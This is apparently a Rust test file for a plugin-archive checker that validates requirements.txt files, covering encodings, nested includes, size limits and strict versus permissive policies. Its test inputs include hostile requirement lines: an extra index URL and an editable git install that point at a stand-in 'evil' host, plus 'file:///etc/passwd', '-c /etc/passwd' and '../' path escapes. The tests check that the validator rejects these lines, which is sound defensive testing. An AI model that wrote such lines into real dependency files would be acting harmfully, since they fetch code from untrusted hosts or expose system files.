//! Requirement files inside archives.

use playground_plugin::RequirementPolicy::{self, Permissive, Strict};
use playground_plugin::{PluginError, PluginFacts, Requested};

use crate::pack::*;

fn facts(files: &[(&str, &[u8])], policy: RequirementPolicy) -> Result<PluginFacts, PluginError> {
    let mut all: Vec<(&str, Vec<u8>)> = vec![
        ("config.yaml", CONFIG.into()),
        ("plugin/gradio_interface.py", APP.into()),
    ];
    all.extend(
        files
            .iter()
            .map(|(name, content)| (*name, content.to_vec())),
    );
    check_with(&zip_of(&all), &Requested::default(), policy).map(|plugin| plugin.facts)
}

#[test]
fn item_18_strict_refuses_and_permissive_passes_on() {
    for line in [
        "--extra-index-url http://evil",
        "-e git+https://evil/x",
        "file:///etc/passwd",
    ] {
        let text = format!("numpy\n{line}\n");
        let error = facts(&[("requirements.txt", text.as_bytes())], Strict).unwrap_err();
        assert_eq!(error.code(), "requirement_not_allowed");
        assert!(
            error.to_string().contains("line 2") && error.to_string().contains(line),
            "{error}"
        );
        assert_eq!(
            facts(&[("requirements.txt", text.as_bytes())], Permissive)
                .unwrap()
                .requirements,
            text
        );
    }
}

#[test]
fn files_of_windows_editors_are_read() {
    let utf16: Vec<u8> = [0xfeffu16]
        .into_iter()
        .chain("numpy\r\n".encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(
        facts(&[("requirements.txt", &utf16)], Strict)
            .unwrap()
            .requirements,
        "numpy\r\n"
    );
    assert_eq!(
        facts(&[("requirements.txt", b"\xef\xbb\xbfnumpy")], Strict)
            .unwrap()
            .requirements,
        "numpy"
    );
    for bad in [&b"numpy # \xb0\xa1"[..], b"a\0b"] {
        assert_eq!(
            facts(&[("requirements.txt", bad)], Permissive)
                .unwrap_err()
                .code(),
            "requirements_invalid"
        );
    }
}

#[test]
fn included_files_are_gathered_once() {
    let files: &[(&str, &[u8])] = &[
        (
            "requirements.txt",
            b"-r more/dev.txt\n-c limits.txt\n./wheels/a-1-py3-none-any.whl\n--find-links wheels\n",
        ),
        ("more/dev.txt", b"-r other.txt\nnumpy\n"),
        ("more/other.txt", b"-r dev.txt\npandas\n"),
        ("limits.txt", b"numpy<3\n"),
        ("wheels/a-1-py3-none-any.whl", b"wheel"),
    ];
    let facts = facts(files, Permissive).unwrap();
    let included: Vec<&String> = facts.included_requirements.keys().collect();
    assert_eq!(included, ["limits.txt", "more/dev.txt", "more/other.txt"]);
    assert_eq!(
        facts.installs_from,
        ["wheels", "wheels/a-1-py3-none-any.whl"]
    );
    assert!(facts.has_wheels);
}

#[test]
fn includes_that_are_missing_or_outside_are_named() {
    for line in ["-r missing.txt", "-r ../up.txt", "-c /etc/passwd"] {
        let error = facts(&[("requirements.txt", line.as_bytes())], Permissive).unwrap_err();
        assert_eq!(error.code(), "requirements_invalid", "{line}");
        assert!(error.to_string().contains("line 1"), "{error}");
    }
}

#[test]
fn all_files_together_are_limited() {
    let half = "# x\n".repeat(10_000);
    let files: &[(&str, &[u8])] = &[
        ("requirements.txt", b"-r a.txt\n-r b.txt\n"),
        ("a.txt", half.as_bytes()),
        ("b.txt", half.as_bytes()),
    ];
    assert_eq!(
        facts(files, Permissive).unwrap_err().code(),
        "requirements_too_large"
    );
}
